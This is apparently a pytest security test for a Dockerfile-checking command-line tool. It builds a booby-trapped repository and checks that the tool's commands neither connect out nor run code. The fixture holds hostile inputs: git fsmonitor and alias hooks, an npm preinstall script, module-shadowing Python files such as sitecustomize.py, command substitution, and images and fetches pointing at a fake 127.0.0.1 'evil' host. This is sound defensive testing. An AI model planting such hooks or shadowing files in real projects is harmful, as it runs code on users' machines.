"""What only looks at files connects to nothing and starts no program, whatever the files say."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest
from cli.running import environment

AUDITED = Path(__file__).with_name("audited.py")
DOCKERFILE = """\
# syntax=127.0.0.1:9/evil/frontend:1
FROM 127.0.0.1:9/evil/base:1 AS base
ADD http://127.0.0.1:9/file.tar.gz /x/
ADD https://github.com/evil/evil.git#main /y/
COPY --from=127.0.0.1:9/evil/other:1 /a /b
RUN --mount=type=secret,id=x --mount=type=bind,from=127.0.0.1:9/z,target=/z apt-get update && apt-get install -y curl
RUN $(touch PWNED) ; `touch PWNED`
HEALTHCHECK CMD curl http://127.0.0.1:9/
"""
COMMANDS = [
    ("check", "."),
    ("plan", "."),
    ("check", "--hosts", "all", "-j", "2", "."),
    ("check", "--output-format", "sarif", "."),
    ("fix", "--check", "--select", "all,multi-stage,swap-base,flatten", "--unsafe", "."),
    ("fix", "--patch", "x.patch", "."),
    ("fix", "--recipe", "hardened", "--check", "."),
    ("dockerignore", "."),
    ("config", "show"),
    ("recipes",),
    ("explain", "merge-run"),
    ("migrate", "plan", "."),
    ("migrate", "apply", "--by", "owner", "--patch", "patches", "."),
    ("pin", "--offline", "."),
    ("test", "golden"),
    ("fix", "--write", "."),
]


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    place = tmp_path / "repository"
    for name in ("golden/merge-run/case", "svc", ".git/hooks"):
        (place / name).mkdir(parents=True)
    for name in ("Dockerfile", "svc/Dockerfile", "golden/merge-run/case/Dockerfile"):
        (place / name).write_text(DOCKERFILE)
    (place / ".git" / "config").write_text('[core]\n\tfsmonitor = "touch PWNED"\n[alias]\n\tx = "!touch PWNED"\n')
    (place / "CODEOWNERS").write_text("* @team\n")
    (place / "compose.yaml").write_text("services: {a: {image: '127.0.0.1:9/x:1', build: 'http://127.0.0.1:9/'}}\n")
    (place / "package.json").write_text('{"scripts": {"preinstall": "touch PWNED"}}')
    for name in ("setup.py", "conftest.py", "sitecustomize.py", "dfopt.py", "jinja2.py", "libcst.py"):
        (place / name).write_text('open("PWNED", "w")\n')
    (place / "make.py").write_text('import docker\ndocker.from_env().images.pull("127.0.0.1:9/evil/x:1")\n')
    return place


@pytest.mark.parametrize("words", COMMANDS, ids=" ".join)
def test_nothing_is_started_or_asked(hostile: Path, words: tuple[str, ...]) -> None:
    audit = hostile.parent / "audit"
    done = subprocess.run(
        [sys.executable, str(AUDITED), *words], cwd=hostile, capture_output=True, check=False,
        env=environment(AUDIT=str(audit)),
    )  # fmt: skip
    assert done.returncode in (0, 1, 2), done.stderr
    assert b"internal error" not in done.stderr
    assert not audit.exists(), audit.read_text()
    assert not list(hostile.rglob("PWNED"))


def test_what_is_asked_for_is_noted(hostile: Path) -> None:
    """The audit sees what there is to see."""
    audit = hostile.parent / "audit"
    (hostile / "good.dockerfile").write_text("FROM debian:13\nRUN apt-get update && apt-get install -y curl\n")
    for words in (("pin", "--time-limit", "1", "Dockerfile"), ("migrate", "apply", "--branch", "x", "good.dockerfile")):
        subprocess.run(
            [sys.executable, str(AUDITED), *words], cwd=hostile, capture_output=True, check=False,
            env=environment(AUDIT=str(audit)),
        )  # fmt: skip
    text = audit.read_text()
    assert "socket.connect" in text
    assert "subprocess.Popen ('git'" in text
